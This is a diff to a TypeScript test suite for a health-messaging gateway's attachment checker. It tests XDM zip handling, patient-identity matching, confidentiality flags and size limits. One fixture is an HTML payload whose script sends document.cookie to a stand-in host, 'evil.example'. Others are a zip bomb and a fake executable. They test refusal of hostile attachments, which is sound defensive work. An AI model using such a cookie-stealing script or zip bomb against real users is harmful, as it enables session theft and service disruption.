@@ -1,5 +1,18 @@
 import { describe, expect, it } from 'vitest';
-import { DOC_ROOT, MAIN_INS, OTHER_INS, buildCda, buildXdm, type CdaSpec } from '../../../fixtures/builders.js';
+import {
+  DOC_ROOT,
+  MAIN_INS,
+  OTHER_INS,
+  buildCda,
+  buildDetachedSignature,
+  buildDicomKos,
+  buildPdf,
+  buildXdm,
+  buildZip,
+  patientCx,
+  zeros,
+  type CdaSpec,
+} from '../../../fixtures/builders.js';
 import { checkAttachments, judge, readAttachments, type Attachment, type CheckOptions } from '../../../src/documents/check.js';
 import { TO_CITIZEN, TO_PROFESSIONAL, fixture } from './support.js';
 
@@ -161,5 +174,120 @@ describe('reading once, judging per recipient', () => {
     expect(judge(read, { citizenRecipient: false }).refusal).toBeUndefined();
     expect(judge(read, { citizenRecipient: true, recipientIns: MAIN_INS }).refusal?.check).toBe('ATTACHMENT_FORMAT');
     expect(judge(read, { citizenRecipient: true, recipientIns: OTHER_INS }).refusal?.check).toBe('RECIPIENT_PATIENT');
+  });
+});
+
+describe('an XDM judged entry by entry', () => {
+  const pdf = buildPdf({ lines: ['Compte rendu'] });
+  const cda = buildCda();
+  const listed = {
+    pdf: { content: pdf, file: 'DOC0002.PDF', metadata: { mimeType: 'application/pdf' } },
+    kos: { content: buildDicomKos(), file: 'DOC0003.DCM', metadata: { mimeType: 'application/dicom' } },
+    signature: { content: buildDetachedSignature([{ uniqueId: `${DOC_ROOT}^DOC-2024-0001`, content: cda }]), file: 'DOC0004.XML' },
+  };
+
+  it('gives a citizen a CDA with a listed PDF, DICOM KOS and signature; files the CDA only', async () => {
+    const content = await buildXdm({ documents: [{}, listed.pdf, listed.kos, listed.signature] });
+    const { refusal, documents } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
+    expect(refusal).toBeUndefined();
+    expect(documents.map((d) => d.entry)).toEqual(['IHE_XDM/SUBSET01/DOC0001.XML']);
+  });
+
+  it('accepts an XDM that holds only a PDF: the zip is not refused as a zip', async () => {
+    const content = await buildXdm({ documents: [listed.pdf] });
+    expect(await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN)).toEqual({ documents: [] });
+  });
+
+  it('refuses for a citizen a page, a program or a nested zip carried beside the documents, naming it', async () => {
+    const bomb = await buildZip([{ name: 'zeros.bin', content: zeros(64 * 1024 * 1024) }]);
+    const extras = [
+      { name: 'evil.html', content: Buffer.from('<!DOCTYPE html><html><script>document.location="https://evil.example/"+document.cookie</script></html>') },
+      { name: 'setup.exe', content: Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1') },
+      { name: 'IHE_XDM/SUBSET01/bomb.zip', content: bomb },
+    ];
+    for (const extra of extras) {
+      const content = await buildXdm({ extra: [extra] });
+      const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
+      expect(refusal, extra.name).toMatchObject({ code: 'FORBIDDEN_FORMAT', check: 'XDM_ENTRY_FORMAT', entry: extra.name });
+      expect(refusal?.message).toContain(`IHE_XDM.ZIP: entry "${extra.name}": a file of the XDM that METADATA.XML does not list is`);
+      // A professional may receive any file; the nested zip is never inflated.
+      expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_PROFESSIONAL)).refusal, extra.name).toBeUndefined();
+    }
+  });
+
+  it('lets a citizen receive the allowed files beside the documents', async () => {
+    const content = await buildXdm({ extra: [{ name: 'IHE_XDM/SUBSET01/LOGO.PNG', content: fixture('image.png') }, { name: 'LISEZMOI.TXT', content: Buffer.from('Bonjour') }] });
+    expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN)).refusal).toBeUndefined();
+  });
+
+  it('refuses a listed document of a format a citizen may not receive', async () => {
+    const content = await buildXdm({ documents: [{}, { content: Buffer.from('<html><body>page</body></html>'), file: 'DOC0002.HTM', metadata: { mimeType: 'text/html' } }] });
+    const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
+    expect(refusal).toMatchObject({ code: 'FORBIDDEN_FORMAT', check: 'XDM_ENTRY_FORMAT', entry: 'IHE_XDM/SUBSET01/DOC0002.HTM' });
+    expect(refusal?.message).toContain('a document of the XDM is HTML');
+  });
+
+  it("refuses a non-CDA document whose metadata names another patient's INS", async () => {
+    const other = { ...listed.pdf, metadata: { ...listed.pdf.metadata, patientId: patientCx(OTHER_INS) } };
+    const content = await buildXdm({ documents: [{}, other] });
+    const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
+    expect(refusal).toMatchObject({ code: 'WRONG_PATIENT', check: 'RECIPIENT_PATIENT', entry: 'IHE_XDM/SUBSET01/DOC0002.PDF' });
+    expect(refusal?.message).not.toContain(OTHER_INS);
+    // For professionals too, one patient per message.
+    expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_PROFESSIONAL)).refusal).toMatchObject({ check: 'SINGLE_PATIENT' });
+  });
+
+  it('keeps a non-CDA document marked INVISIBLE_PATIENT from the citizen', async () => {
+    const content = await buildXdm({ documents: [{}, { ...listed.pdf, confidentiality: ['INVISIBLE_PATIENT'] }] });
+    expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN)).refusal).toMatchObject({ check: 'INVISIBLE_PATIENT', entry: 'IHE_XDM/SUBSET01/DOC0002.PDF' });
+    // Also when its patientId is a local identifier, not an INS.
+    const local = { ...listed.pdf, confidentiality: ['INVISIBLE_PATIENT'], metadata: { ...listed.pdf.metadata, patientId: 'IPP-000123^^^&1.2.250.1.999.1.2.3&ISO' } };
+    const other = await buildXdm({ documents: [{}, local] });
+    expect((await checkAttachments([zip('IHE_XDM.ZIP', other)], TO_CITIZEN)).refusal).toMatchObject({ check: 'INVISIBLE_PATIENT' });
+    expect((await checkAttachments([zip('IHE_XDM.ZIP', other)], TO_PROFESSIONAL)).refusal).toBeUndefined();
+  });
+});
+
+describe('parts the message reader could not decode', () => {
+  it('are refused for everyone, naming where they sit', async () => {
+    const part: Attachment = {
+      filename: 'IHE_XDM.ZIP',
+      contentType: 'application/zip',
+      content: Buffer.alloc(0),
+      within: 'forwarded message "Fwd.eml"',
+      unreadable: { check: 'MIME_ENCODING', reason: 'the part\'s Content-Transfer-Encoding "x-gzip64" is not one the gateway can decode' },
+    };
+    for (const options of [TO_CITIZEN, TO_PROFESSIONAL]) {
+      const { refusal } = await checkAttachments([part], options);
+      expect(refusal).toMatchObject({ code: 'INVALID_DOCUMENT', check: 'MIME_ENCODING', attachment: 'IHE_XDM.ZIP (in forwarded message "Fwd.eml")' });
+      expect(refusal?.message).toContain('cannot be checked');
+    }
+  });
+});
+
+describe('the budget of one message', () => {
+  /** An XDM whose padding entries inflate to `entries` MB, each entry within every per-zip bound. */
+  const padded = (entries: number) =>
+    buildXdm({ extra: Array.from({ length: entries }, (_, i) => ({ name: `IHE_XDM/SUBSET01/PAD${i}.TXT`, content: Buffer.alloc(1024 * 1024, 0x20) })) });
+
+  it('refuses many zips that each keep within the per-zip bounds, before inflating them all', async () => {
+    const one = await padded(40); // 40 MB inflated: within the 50 MB of one zip
+    expect((await checkAttachments([zip('a.zip', one)], TO_PROFESSIONAL)).refusal).toBeUndefined();
+    const many = Array.from({ length: 180 }, (_, i) => zip(`xdm${i}.zip`, one));
+    const start = performance.now();
+    const { refusal } = await checkAttachments(many, TO_PROFESSIONAL);
+    const elapsed = performance.now() - start;
+    expect(refusal).toMatchObject({ code: 'TOO_LARGE', check: 'MESSAGE_INFLATED_BYTES', attachment: 'xdm2.zip' });
+    expect(refusal?.message).toContain('inflate to more than the 100 MB allowed in one message');
+    // Two zips inflated (80 MB), the third refused from its directory: not 7 GB.
+    expect(elapsed).toBeLessThan(5000);
+  });
+
+  it('bounds the entries and the time of the whole message', async () => {
+    const xdm = fixture('presc-n1.zip'); // 6 entries, 2 of them folders
+    const entries = await checkAttachments([zip('a.zip', xdm), zip('b.zip', xdm)], { ...TO_CITIZEN, limits: { maxMessageEntries: 10 } });
+    expect(entries.refusal).toMatchObject({ code: 'TOO_LARGE', check: 'MESSAGE_ENTRIES', attachment: 'b.zip' });
+    const slow = await checkAttachments([zip('a.zip', await padded(8))], { ...TO_CITIZEN, limits: { maxMessageCheckMs: 1 } });
+    expect(slow.refusal).toMatchObject({ code: 'TOO_LARGE', check: 'MESSAGE_CHECK_TIME' });
   });
 });
